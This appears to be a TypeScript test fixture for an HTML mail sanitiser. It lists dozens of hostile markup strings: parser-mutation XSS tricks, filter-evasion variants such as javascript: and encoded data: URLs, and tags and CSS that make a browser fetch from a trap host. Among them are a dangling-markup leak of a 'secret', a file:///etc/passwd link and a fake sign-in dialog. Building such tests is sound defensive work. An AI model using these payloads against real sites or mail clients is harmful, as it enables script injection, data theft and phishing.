import { TRAP } from './hostile-mail.ts';

/*
 * Tricks of the families that have broken sanitisers in public (DOMPurify's advisories, cure53's and OWASP's
 * lists), in cases of our own: markup that changes its meaning when it is written out and read again, ways
 * around filters of text, and everything in a style or an attribute that makes a browser fetch.
 */

const RUN = `onerror="top.pwned=1"`;
const PICTURE = `<img src="${TRAP}/mutated.png" ${RUN}>`;
/** The same picture hidden in an attribute, to be set free by a parser that ends something too early. */
const HIDDEN = PICTURE.replaceAll('"', '&quot;');

/** Markup that means something else the second time it is parsed. */
const mutations: readonly string[] = [
  `<math><mtext><option><x-y><option></option><mglyph><svg><mtext><style><a title="</style>${HIDDEN}">`,
  `<math><mtext><table><mglyph><style><math><img title="</style>${HIDDEN}">`,
  `<math><mi><table><malignmark><style><!--</style><img title="-->${HIDDEN}">`,
  `<math><annotation-xml encoding="text/html"><style>${PICTURE}</style></annotation-xml></math>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><p><style><a id="</style>${HIDDEN}">`,
  `<svg></p><style><a id="</style>${HIDDEN}">`,
  `<svg><p></p><style><g title="</style>${HIDDEN}">`,
  `<svg><foreignObject><math><mi><p><style><!--</style><p id="-->${HIDDEN}">`,
  `<svg><desc><table><thead><s></table></s></desc><style><img title="</style>${HIDDEN}">`,
  `<svg><title><![CDATA[</title>${PICTURE}]]></title></svg>`,
  `<svg><![CDATA[><image xlink:href="]]>${PICTURE}//"></svg>`,
  `<form><div></form><form id="x"><svg><style><path title="</style>${HIDDEN}">`,
  `<form><input name="attributes"><input name="nodeName"><input name="childNodes">${PICTURE}</form>`,
  `${'<div>'.repeat(600)}<svg><style><a title="</style>${HIDDEN}">${'</div>'.repeat(600)}`,
  `${'<table><tr><td>'.repeat(200)}<math><mtext><mglyph><style><a title="</style>${HIDDEN}">`,
  `<a><table><a><math><mtext><style><i title="</style>${HIDDEN}"></a></table>`,
  `<table><svg><style><td title="</style>${HIDDEN}"></table>`,
  `<select><template><style><!--</style><a rel="--></style></template></select>${HIDDEN}">x</a>`,
  `<select><option><style></option></select>${PICTURE}</style>`,
  `<noscript><style><noscript title="</noscript>${HIDDEN}"></style>`,
  `<noembed><img title="</noembed>${HIDDEN}"></noembed><noframes><p id="</noframes>${HIDDEN}"></noframes>`,
  `<xmp><p title="</xmp>${HIDDEN}"></xmp><listing>&lt;img src=x ${RUN}></listing>`,
  `<textarea><p title="</textarea>${HIDDEN}"></textarea><title><p id="</title>${HIDDEN}"></title>`,
  `<iframe><p title="</iframe>${HIDDEN}"></iframe><plaintext><p title="</plaintext>${HIDDEN}">`,
  `<template><template></template></template><style><p id="</style>${HIDDEN}">`,
  `<p><div><template shadowrootmode="open"><slot></slot><style>*{background:url(${TRAP}/shadow.png)}</style></template></div>`,
  `<!--><img title="-->${HIDDEN}"><!--!>${PICTURE}--><!-- --!>${PICTURE}-->`,
  `<?xml version="1.0" ?><?img title="?>${PICTURE}"?><!ELEMENT x "${PICTURE}"><!DOCTYPE [<!ENTITY a "${HIDDEN}">]>&a;`,
  `<pre>\n\n<style><p title="</style>${HIDDEN}"></pre><textarea>\n<img title="</textarea>${HIDDEN}"></textarea>`,
  `<p title="\`${HIDDEN}\`">a</p><p lang='"${HIDDEN}'>b</p><img alt="\`x ${RUN.replaceAll('"', '')}\`">`,
];

/** Ways around what looks for words in text. */
const disguises: readonly string[] = [
  `<IMG SRC=\`javascript:top.pwned=1\` ONERROR\n=\ntop.pwned=1><img/src="${TRAP}/slash.png"/onerror=top.pwned=1>`,
  `<img src="${TRAP}/nul.png" on\u0000error=top.pwned=1><scr\u0000ipt>top.pwned=1</scr\u0000ipt>`,
  `<img src=x:x onerror&#61;top.pwned=1><img \u000c onerror\u000c=\u000ctop.pwned=1 src=x:x>`,
  `<scr<script>ipt>top.pwned=1</scr</script>ipt><script/x>top.pwned=1</script/x><script>//<!--\ntop.pwned=1</script>`,
  `<img src="a" src="${TRAP}/second.png" onerror="top.pwned=1" ONERROR="top.pwned=1"><p OnClick=top.pwned=1>a</p>`,
  `<a href="jAvAsCrIpT&colon;top.pwned=1">a</a><a href="java&Tab;script:top.pwned=1">b</a><a href="&#x6A;avascript:top.pwned=1">c</a>`,
  `<a href="\u2028javascript:top.pwned=1">a</a><a href="javascript://https://example.net/%0atop.pwned=1">b</a><a href="https:javascript:1">c</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==">a</a><a href="blob:https://x/1">b</a><a href="view-source:x">c</a>`,
  `<a href="\\\\trap.example\\share">a</a><a href="//trap.example/">b</a><a href="file:///etc/passwd">c</a><a href="ms-msdt:/id">d</a>`,
  `+ADw-script+AD4-top.pwned=1+ADw-/script+AD4-<meta charset="utf-7">\u001b$B<img src=x:x ${RUN}>\u001b(B`,
  `&lt;img src="${TRAP}/twice.png" ${RUN}&gt;&amp;lt;script&amp;gt;top.pwned=1&amp;lt;/script&amp;gt;`,
  `<svg><a xlink:href="javascript:top.pwned=1"><text>x</text></a><animate attributeName="href" values="javascript:top.pwned=1"/><set attributeName="onload" to="top.pwned=1"/></svg>`,
  `<svg><script href="data:,top.pwned=1"/><use href="data:image/svg+xml,<svg id='x' onload='top.pwned=1'/>#x"/><handler>top.pwned=1</handler></svg>`,
  `<math href="javascript:top.pwned=1">x</math><math><maction actiontype="statusline#javascript:top.pwned=1">x</maction></math>`,
  `<details open ontoggle="top.pwned=1"><summary>a</summary></details><marquee onstart="top.pwned=1" onfinish="top.pwned=1">a</marquee>`,
  `<input autofocus onfocus="top.pwned=1"><select autofocus onfocus="top.pwned=1"></select><p tabindex="1" autofocus onfocus="top.pwned=1" contenteditable>a</p>`,
  `<button popovertarget="p" command="show-popover" commandfor="p" formaction="javascript:top.pwned=1">a</button><div popover id="p" onbeforetoggle="top.pwned=1">b</div>`,
  `<dialog open>Sign in again <input type="password"></dialog><x-widget is="x-y" onanimationstart="top.pwned=1">a</x-widget>`,
  `<object type="text/html" data="data:text/html,<script>top.pwned=1</script>"><param name="url" value="javascript:top.pwned=1"></object>`,
  `<iframe srcdoc="<script>top.pwned=1</script>" sandbox="allow-scripts allow-same-origin"></iframe><fencedframe></fencedframe><portal src="${TRAP}/portal"></portal>`,
];

/** Everything that might make a browser ask for something. */
const fetches: readonly string[] = [
  `<image src="${TRAP}/image-tag.png"><img lowsrc="${TRAP}/low.png" dynsrc="${TRAP}/dyn.avi" longdesc="${TRAP}/long" attributionsrc="${TRAP}/attribution">`,
  `<img src='${TRAP}/dangling?<p>Your secret is 4711</p>'><img src="${TRAP}/open?\n<p>never closed`,
  `<img src="https:trap.example/no-slashes.png"><img src="\\\\trap.example\\back.png"><img src=" ${TRAP}/space.png"><img src="&Tab;${TRAP}/tab.png">`,
  `<img src="data:image/png,<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'/>"><img src="data:image/svg+xml;base64,PHN2Zy8+"><img src="data:text/html;base64,PHA+">`,
  `<img src="cid:${TRAP}/x"><img src="cid:../../api/config"><img src="blob:${TRAP}/1"><img src="filesystem:${TRAP}/1"><img src="about:blank">`,
  `<img loading="lazy" decoding="sync" crossorigin referrerpolicy="unsafe-url" fetchpriority="high" sizes="100vw" srcset="${TRAP}/huge.png 9999w">`,
  `<link rel="preconnect" href="${TRAP}"><link rel="modulepreload" href="${TRAP}/m.js"><link rel="icon" href="${TRAP}/i.ico"><link rel="manifest" href="${TRAP}/m.json"><link rel="expect" blocking="render" href="#x">`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${TRAP}/speculated"]}]}</script><script type="importmap">{"imports":{"a":"${TRAP}/a.js"}}</script>`,
  `<meta http-equiv="refresh" content="0; url='${TRAP}/quoted'"><meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="set-cookie" content="a=b"><meta name="referrer" content="unsafe-url">`,
  `<html manifest="${TRAP}/app.manifest"><head profile="${TRAP}/profile"><body link="red" background="${TRAP}/body2.png" onpageshow="top.pwned=1">a</body></html>`,
  `<video><source src="${TRAP}/a.webm"><track src="${TRAP}/t.vtt" default></video><audio autoplay controls src="${TRAP}/a.ogg"></audio><bgsound src="${TRAP}/b.mid" loop>`,
  `<q cite="${TRAP}/q">a</q><blockquote cite="${TRAP}/b">a</blockquote><del cite="${TRAP}/d">a</del><a href="https://example.net/" attributionsrc="${TRAP}/a" hreflang="en" rel="prefetch dns-prefetch" download>b</a>`,
  `<svg><filter><feImage href="${TRAP}/fe.png"/></filter><pattern><image xlink:href="${TRAP}/pattern.png"/></pattern><style>@import url(${TRAP}/svg.css)</style><cursor href="${TRAP}/c.cur"/></svg>`,
  `<isindex action="${TRAP}/is"><keygen><base target="_top" href="${TRAP}/b2/"><area href="${TRAP}/area" ping="${TRAP}/p"><map name="m"></map><img usemap="#m">`,
  ...[
    `background: u/**/rl(${TRAP}/comment.png)`,
    `b\\61ckground-image: \\75\\72\\6c(${TRAP}/escapes.png)`,
    `background: URL ( '${TRAP}/spaces.png' ), url(${TRAP}/unclosed.png`,
    `background: image('${TRAP}/image.png'), cross-fade(url(${TRAP}/fade.png), red), -webkit-image-set('${TRAP}/w.png' 1x)`,
    `background: src('${TRAP}/src.png'); background: element(#x); background: paint(x)`,
    `shape-outside: url(${TRAP}/shape.png); clip-path: url(${TRAP}/clip.svg#c); offset-path: url(${TRAP}/path.svg#p); float: left`,
    `-webkit-mask-image: url(${TRAP}/mask.png); -webkit-box-reflect: below 1px url(${TRAP}/reflect.png); marker: url(${TRAP}/marker.svg#m)`,
    `behavior: url(${TRAP}/b.htc); -moz-binding: url(${TRAP}/b.xml#x); width: expression(top.pwned=1); filter: progid:x(src='${TRAP}/ie.png')`,
    `font: 16px/1 "x", url(${TRAP}/font.woff); font-family: 'a' url(${TRAP}/f.woff); color: red} * { background: url(${TRAP}/broke-out.png)`,
    `color: red; } @import '${TRAP}/import.css'; @font-face { src: url(${TRAP}/face.woff) } a {`,
    `list-style: url(${TRAP}/bullet.png) inside; border-image-source: url(${TRAP}/bi.png); border-image: url(${TRAP}/bi2.png) 1`,
    `--a: url(${TRAP}/custom.png); background-image: var(--a); width: attr(data-x); color: if(style(--a): red; else: blue)`,
    `position: absolute; inset: 0; z-index: 2147483647; anchor-name: --a; position-anchor: --a; top: anchor(--a bottom)`,
    `transform: scale(99); translate: -999px; rotate: 45deg; zoom: 20; opacity: 0.01; mix-blend-mode: difference; visibility: hidden; cursor: none`,
    `margin: calc(1px - 9999px); margin-inline: -50vw; margin-block-start: calc(-1 * 100vh)`,
    `animation: x 1s; transition: all 1s; view-transition-name: x; view-timeline: --x; container: x / size; content: url(${TRAP}/c.png); pointer-events: none`,
  ].map((style) => `<div style="${style.replaceAll('"', '&quot;')}">a</div>`),
];

/** All of them, one trick or one family of tricks an entry. */
export const mutationMail: readonly string[] = [...mutations, ...disguises, ...fetches];
